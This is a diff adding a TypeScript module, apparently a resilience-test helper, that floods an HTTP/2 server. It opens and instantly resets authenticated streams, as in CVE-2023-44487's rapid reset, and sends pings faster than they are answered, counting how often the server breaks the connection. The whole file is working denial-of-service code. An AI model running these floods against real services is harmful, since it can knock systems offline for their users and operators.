@@ -1,0 +1,58 @@
+// Floods over HTTP/2: streams that are opened and reset at once, and pings.
+import { once } from "node:events";
+import type { ClientHttp2Session } from "node:http2";
+import { connect, constants } from "node:http2";
+
+/** How many were sent, and how often the other side broke the connection over it. */
+export interface Flood {
+  readonly sent: number;
+  readonly broken: number;
+}
+
+/** Opens so many streams and resets each at once (as CVE-2023-44487 does), on a new connection where one is broken. */
+export async function resetStreams(base: string, key: string, count: number): Promise<Flood> {
+  const headers = { ":path": "/v1/contacts?query=ab", authorization: `Bearer ${key}` };
+  return flood(base, count, (session) => {
+    const stream = session.request(headers);
+    stream.on("error", () => undefined);
+    stream.close(constants.NGHTTP2_CANCEL);
+  });
+}
+
+/** Sends so many pings, faster than they are answered. */
+export function ping(base: string, count: number): Promise<Flood> {
+  return flood(base, count, (session) => void session.ping(() => undefined));
+}
+
+async function flood(base: string, count: number, act: (session: ClientHttp2Session) => void): Promise<Flood> {
+  let broken = 0;
+  let session: ClientHttp2Session | undefined;
+  for (let at = 0; at < count; at++) {
+    if (session === undefined || session.closed || session.destroyed) {
+      if (session !== undefined) broken++;
+      session = connect(base, { maxOutstandingPings: count });
+      session.on("error", () => undefined);
+      await once(session, "connect").catch(() => undefined);
+    }
+    try {
+      act(session);
+    } catch {
+      session.destroy();
+    }
+    // The other side takes them before more are sent, or the rest would go to a connection that it has given up.
+    if (at % 100 === 99) await answered(session);
+  }
+  session?.destroy();
+  return { sent: count, broken };
+}
+
+function answered(session: ClientHttp2Session): Promise<void> {
+  return new Promise((resolve) => {
+    if (session.destroyed || session.closed) return resolve();
+    session.once("close", resolve);
+    session.ping(() => {
+      session.off("close", resolve);
+      resolve();
+    });
+  });
+}
